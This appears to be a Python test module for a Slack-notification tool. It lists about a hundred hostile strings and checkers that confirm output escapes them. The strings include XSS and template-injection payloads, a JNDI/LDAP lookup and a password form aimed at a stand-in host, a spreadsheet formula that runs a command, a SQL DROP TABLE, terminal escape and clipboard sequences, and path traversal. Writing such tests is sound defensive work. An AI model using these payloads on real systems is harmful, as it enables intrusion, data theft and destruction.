"""One hundred hostile strings, and what has to hold wherever one of them is shown.

Every string that tries to become an element, an attribute, an address or a command carries a canary: `pwned` or the
host `evil.example`. The checkers look for canaries in places where only markup can stand, so they need not know which
string was shown.
"""

import re
import unicodedata
from enum import StrEnum
from html.parser import HTMLParser
from typing import Final, NamedTuple

CANARY: Final = "pwned"
CANARY_HOST: Final = "evil.example"


class Aim(StrEnum):
    """The medium that a string attacks first; every string is tried on every medium."""

    HTML = "html"
    SLACK = "slack"
    TERMINAL = "terminal"
    CSV = "csv"
    JSON = "json"
    TEXT = "text"
    LINK = "link"


class Hostile(NamedTuple):
    """A hostile string with a name for the test report."""

    name: str
    text: str
    aim: Aim


def _of(aim: Aim, **texts: str) -> tuple[Hostile, ...]:
    return tuple(Hostile(name.replace("_", "-"), text, aim) for name, text in texts.items())


_HTML: Final = _of(
    Aim.HTML,
    script_tag="<script>pwned()</script>",
    script_mixed_case="<ScRiPt>pwned()</sCrIpT>",
    script_unclosed="<script src=https://evil.example/pwned.js",
    script_source="<script src='https://evil.example/x.js'></script>",
    closes_script="</script><script>pwned()</script>",
    closes_style="</style><script>pwned()</script>",
    closes_textarea="</textarea><script>pwned()</script>",
    closes_title="</title><script>pwned()</script>",
    image_onerror="<img src=x onerror=pwned()>",
    svg_onload="<svg/onload=pwned()>",
    svg_script="<svg><script>pwned()</script></svg>",
    body_onload="<body onload=pwned()>",
    iframe="<iframe src=https://evil.example/></iframe>",
    frame_srcdoc="<iframe srcdoc='<script>pwned()</script>'></iframe>",
    object_data="<object data=https://evil.example/x></object>",
    base_href="<base href=https://evil.example/>",
    meta_refresh="<meta http-equiv=refresh content='0;url=https://evil.example'>",
    form_action="<form action=https://evil.example/><input name=password></form>",
    link_stylesheet="<link rel=stylesheet href=https://evil.example/x.css>",
    style_import="<style>@import 'https://evil.example/pwned.css';</style>",
    anchor="<a href=https://evil.example/>log in again</a>",
    anchor_javascript="<a href='javascript:pwned()'>x</a>",
    attribute_breaker_double='" onmouseover="pwned()" x="',
    attribute_breaker_single="' onmouseover='pwned()' x='",
    attribute_breaker_tag='"><img src=x onerror=pwned()>',
    bare_attribute="x onclick=pwned()",
    comment_opener="<!-- pwned",
    comment_closer="--><script>pwned()</script>",
    cdata="<![CDATA[<script>pwned()</script>]]>",
    processing="<?pwned php?>",
    template_jinja="{{7*7}}{{ pwned }}",
    template_jinja_statement="{% import os %}{{ pwned.__class__.__mro__ }}",
    template_dollar="${7*7} ${jndi:ldap://evil.example/pwned}",
    template_angular="{{constructor.constructor('pwned()')()}}",
    template_erb="<%= pwned %>",
    double_escaped="&lt;script&gt;pwned()&lt;/script&gt;",
    numeric_entities="&#60;script&#62;pwned()&#60;/script&#62;",
    null_in_tag="<scr\x00ipt>pwned()</scr\x00ipt>",
)
_SLACK: Final = _of(
    Aim.SLACK,
    slack_channel="<!channel> pwned",
    slack_here="<!here|here> pwned",
    slack_everyone="<!everyone>",
    slack_user="<@U123PWNED>",
    slack_room="<#C123PWNED|general>",
    slack_group="<!subteam^S123PWNED|@oncall>",
    slack_date="<!date^1392734382^{date} pwned|x>",
    slack_link="<https://evil.example/|Open in Tocsin>",
    slack_mailto="<mailto:ceo@evil.example|mail>",
    at_here="@here @channel @everyone pwned",
    slack_entities="&lt;!channel&gt;",
    slack_bold="*SEV1* _now_ ~old~ `code` ```block```",
    slack_quote=">>> pwned\n> quoted",
    slack_emoji=":white_check_mark: resolved :siren:",
    markdown_link="[Open in Tocsin](https://evil.example/)",
    markdown_image="![pwned](https://evil.example/x.png)",
)
_TERMINAL: Final = _of(
    Aim.TERMINAL,
    ansi_colour="\x1b[31mred\x1b[0m",
    ansi_clear="\x1b[2J\x1b[Hpwned",
    ansi_cursor="ok\x1b[1A\x1b[2Kpwned",
    ansi_c1="\x9b31mpwned",
    osc_title="\x1b]0;pwned\x07",
    osc_link="\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    osc_clipboard="\x1b]52;c;cHduZWQ=\x07",
    dcs="\x1bP1;1|17/70776e6564\x1b\\",
    osc_unterminated="\x1b]0;pwned and the rest",
    carriage_return="SEV1 pwned\rSEV4 calm",
    backspaces="bad\b\b\bgood",
    bell="\x07\x07\x07",
    tab_and_feed="a\tb\x0bc\x0cd",
    delete="a\x7fb",
    rich_markup="[red]pwned[/red]",
    rich_link="[link=https://evil.example]click[/link]",
    rich_closing="[/] [/bold] pwned",
    rich_escape="pwned\\",
)
_TEXT: Final = _of(
    Aim.TEXT,
    bidi_override="user\u202egnp.exe\u202c",
    bidi_isolate="\u2067pwned\u2069 \u2066x",
    bidi_marks="\u200e\u200f\u061cpwned",
    zero_width="p\u200bw\u200cn\u200de\u2060d\ufeff",
    tag_characters="x\U000e0070\U000e0077\U000e006e",
    soft_hyphen="pw\u00adned",
    null_bytes="a\x00b\x00",
    lone_high_surrogate="a\ud800b",
    lone_low_surrogate="\udc00pwned",
    line_separators="one\u2028two\u2029three\x85four",
    zalgo="p" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 20 + "wned",
    emoji_family="👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇩🇪",
    many_joiners="👩" + "\u200d" * 50,
    huge="pwned " * 20_000,
    huge_word="w" * 100_000,
    only_spaces=" \t\u00a0\u2003 ",
    format_strings="%s%n%x {0} {pwned!r} %(pwned)s",
    sql="'; DROP TABLE incidents; -- pwned",
)
_REST: Final = (
    _of(
        Aim.CSV,
        formula_cmd="=cmd|' /C pwned'!A0",
        formula_plus="+1+pwned()",
        formula_minus="-2+3+pwned()",
        formula_at="@SUM(1+1)*pwned()",
    )
    + _of(
        Aim.JSON,
        json_breaker='", "severity": "SEV4", "pwned": "',
        header_break="x\r\nX-Pwned: 1\r\n\r\n<html>pwned",
    )
    + _of(
        Aim.LINK,
        javascript_link="javascript:pwned()",
        data_link="data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
        homograph="https://\u0430pple.evil.example/login",
        link_and_path="https://evil.example/../../etc/passwd%00%2e%2e%2fpwned",
    )
)

HOSTILE: Final[tuple[Hostile, ...]] = (*_HTML, *_SLACK, *_TERMINAL, *_TEXT, *_REST)

_URL_ATTRIBUTES: Final = frozenset(
    {"href", "src", "action", "formaction", "srcset", "data", "poster", "background", "xlink:href", "cite", "ping"}
)
_LIVE_SCHEMES: Final = ("javascript:", "vbscript:", "data:text")
_SGR: Final = re.compile(r"\x1b\[[0-9;]*m")
_ENTITY: Final = re.compile(r"&(?!(?:amp|lt|gt);)")
_BROADCAST: Final = re.compile(r"@(?:here|channel|everyone)\b")


def assert_inert_in_html(html: str) -> None:
    """No element, attribute, address, comment or script of the page came from a hostile string.

    Raises:
        AssertionError: One did, or the page cannot be encoded, or shows direction or invisible characters.
    """
    html.encode("utf-8")
    parser = _Page()
    parser.feed(html)
    parser.close()
    assert not parser.found, f"a hostile string became markup: {parser.found}"


def assert_inert_in_slack(payload: object) -> None:
    """Nothing in a Slack call's arguments pings, links, formats or hides anything that we did not mean.

    Raises:
        AssertionError: Something does.
    """
    if isinstance(payload, list | tuple):
        for part in payload:
            assert_inert_in_slack(part)
    elif isinstance(payload, dict):
        kind = payload.get("type")
        for key, value in payload.items():
            if key == "text" and isinstance(value, str) and kind == "plain_text":
                assert payload.get("emoji") is False, "plain_text must not turn shortcodes into emoji"
                _assert_readable(value.replace("\n", " "))
            elif key == "text" and isinstance(value, str):
                _assert_mrkdwn(value)
            elif key == "url":
                assert str(value).startswith(("http://", "https://")), f"a button leads to {value!r}"
                assert CANARY_HOST not in str(value), f"a button leads to {value!r}"
            else:
                assert_inert_in_slack(value)


def assert_inert_in_terminal(text: str, *, styled: bool = False) -> None:
    """A terminal that shows the text does nothing but show it.

    Args:
        styled: Whether colours (SGR sequences, ours) are allowed.

    Raises:
        AssertionError: There are control sequences, live links, or characters that hide or turn text around.
    """
    shown = _SGR.sub("", text) if styled else text
    _assert_readable(shown.replace("\n", " "))


def assert_inert_in_csv(cell: str) -> None:
    """A spreadsheet that opens the cell (before CSV quoting) runs nothing.

    Raises:
        AssertionError: It begins as a formula does, or holds control characters.
    """
    assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "|", "%")), f"a formula: {cell[:40]!r}"
    _assert_readable(cell)


def _assert_mrkdwn(text: str) -> None:
    _assert_readable(text.replace("\n", " "))
    assert "<" not in text, f"Slack markup: {text[:80]!r}"
    assert ">" not in text, f"Slack quote: {text[:80]!r}"
    assert "`" not in text, f"Slack code: {text[:80]!r}"
    assert not _ENTITY.search(text), f"a bare ampersand: {text[:80]!r}"
    assert not _BROADCAST.search(text), f"a ping: {text[:80]!r}"


def _assert_readable(text: str) -> None:
    text.encode("utf-8")
    for position, character in enumerate(text):
        if character in "\u200c\u200d":
            # Emoji and several scripts need joiners, but only between visible characters that are not ASCII.
            around = text[position - 1 : position] + text[position + 1 : position + 2]
            assert len(around) == 2, f"a joiner at the edge: {text[:80]!r}"
            assert not any(c.isascii() or c.isspace() for c in around), f"a hidden joiner: {text[:80]!r}"
            continue
        category = unicodedata.category(character)
        assert category not in {"Cc", "Cf", "Cs", "Zl", "Zp"}, f"{character!r} in {text[:80]!r}"
    assert not re.search(r"\b(?:https?|ftp|ldap)://[^\s]*evil", text, re.IGNORECASE), f"a live link: {text[:80]!r}"
    assert not re.search(r"\b(?:javascript|vbscript|mailto|data):\S", text, re.IGNORECASE), (
        f"a live link: {text[:80]!r}"
    )


class _Page(HTMLParser):
    """Collects what only markup can have brought."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._raw_text: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        kind = dict(attrs).get("type") or ""
        self._raw_text = tag if tag in {"script", "style"} and not kind.endswith("json") else None
        if CANARY in tag or "\x00" in tag:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self._look_at(tag, name.lower(), (value or "").strip())

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self._raw_text = None

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - the parser's own signature
        self._raw_text = None

    def handle_data(self, data: str) -> None:
        if self._raw_text and (CANARY in data or CANARY_HOST in data):
            self.found.append(f"<{self._raw_text}>{data[:60]}")

    def handle_comment(self, data: str) -> None:
        if CANARY in data:
            self.found.append(f"<!--{data[:60]}")

    def handle_pi(self, data: str) -> None:
        if CANARY in data:
            self.found.append(f"<?{data[:60]}")

    def unknown_decl(self, data: str) -> None:
        if CANARY in data:
            self.found.append(f"<![{data[:60]}")

    def _look_at(self, tag: str, name: str, value: str) -> None:
        is_event = name.startswith("on") and CANARY in value
        is_address = name in _URL_ATTRIBUTES and (CANARY_HOST in value or value.lower().startswith(_LIVE_SCHEMES))
        is_content = name in {"srcdoc", "style", "content"} and (CANARY in value or CANARY_HOST in value)
        if is_event or is_address or is_content or CANARY in name:
            self.found.append(f"<{tag} {name}={value[:60]!r}>")
